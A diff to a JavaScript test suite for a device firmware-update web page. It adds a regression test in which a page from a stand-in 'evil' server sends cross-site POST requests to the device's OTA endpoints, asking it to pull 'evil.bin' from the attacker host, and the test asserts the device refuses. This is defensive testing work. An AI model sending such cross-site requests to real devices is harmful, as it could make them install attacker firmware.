@@ -142,7 +142,7 @@ test('update page: upload a firmware, see the progress reach 100 % and the devic
       fw2 = makeImage(dir, '1.1.0');
       return makeImage(dir, '1.0.0');
     };
-    await withNodeAndPage('update-page', setup, [], async ({ node, page }) => {
+    await withNodeAndPage('update-page', setup, ['--open'], async ({ node, page }) => {
       assert.equal(await text(page, '#project'), 'demo');
       assert.equal(await text(page, '#chip'), 'esp32s3');
       assert.equal(await text(page, '#partition'), 'ota_0');
@@ -201,4 +201,65 @@ test('update page: a device with a PSK refuses without it; with it, a www.bin up
       await waitText(page, '#version', /^1\.0\.0$/);
       assert.match(await text(page, '#active-slot'), /^0\b/);
     });
+  });
+
+// A web page of another site (another address here) that the device's user
+// happens to open tries what issue reports showed to work before: a "simple"
+// cross-site POST with no preflight (mode no-cors, text/plain), and a JSON
+// one (which needs a preflight the device never grants). The device is open
+// (no PSK) to give the attack its best chance. Nothing may change: no
+// download is asked of the attacker's server, the flash is byte-identical.
+test('update page: a page of another site cannot make the device pull an image or switch its frontend',
+  { skip: noChromium, timeout: 180000 },
+  async () => {
+    const http = await import('node:http');
+    const { readFileSync } = await import('node:fs');
+    let asked = [];
+    const evil = http.createServer((req, res) => {
+      asked.push(req.url);
+      res.writeHead(200, { 'Content-Type': 'text/html' });
+      res.end('<!doctype html><title>cat pictures</title>');
+    });
+    await new Promise((ok) => evil.listen(0, '127.0.0.3', ok));
+    const evilUrl = `http://127.0.0.3:${evil.address().port}`;
+    try {
+      await withNodeAndPage('cross-site', (dir) => makeImage(dir, '1.0.0'), ['--open'], async ({ dir, node, page }) => {
+        const flash = join(dir, 'flash.img');
+        const before = readFileSync(flash);
+        await page.goto(`${evilUrl}/cats.html`);
+        asked = [];
+        const outcomes = await page.evaluate(async ({ device, evilUrl }) => {
+          const trigger = JSON.stringify({ type: 'ota_trigger', url: `${evilUrl}/evil.bin`, id: 'evil' });
+          const tries = [
+            [`${device}api/ota/pull`, { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: trigger }],
+            [`${device}api/ota/pull`, { method: 'POST', mode: 'no-cors', body: trigger }],
+            [`${device}api/ota/pull`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: trigger }],
+            [`${device}api/ota/frontend/rollback`, { method: 'POST', mode: 'no-cors' }],
+            [`${device}ota`, { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: 'x'.repeat(4096) }],
+          ];
+          const out = [];
+          for (const [url, init] of tries) {
+            try {
+              const r = await fetch(url, init);
+              out.push(`sent (${r.type})`);
+            } catch (e) {
+              out.push(`blocked: ${e.message}`);
+            }
+          }
+          return out;
+        }, { device: node.url, evilUrl });
+        // The no-cors requests reach the device (the browser hides the reply);
+        // the JSON one is stopped by the preflight.
+        assert.equal(outcomes.length, 5);
+        assert.match(outcomes[2], /^blocked/);
+        await new Promise((ok) => setTimeout(ok, 1500)); // a pull would have started by now
+        assert.deepEqual(asked.filter((u) => u.includes('evil.bin')), []);
+        const state = await (await fetch(`${node.url}api/ota/state`, { signal: AbortSignal.timeout(5000) })).json();
+        assert.notEqual(state.trigger, 'evil');
+        assert.equal(node.boots.length, 1);
+        assert.ok(readFileSync(flash).equals(before), 'the flash changed');
+      });
+    } finally {
+      await new Promise((ok) => evil.close(ok));
+    }
   });
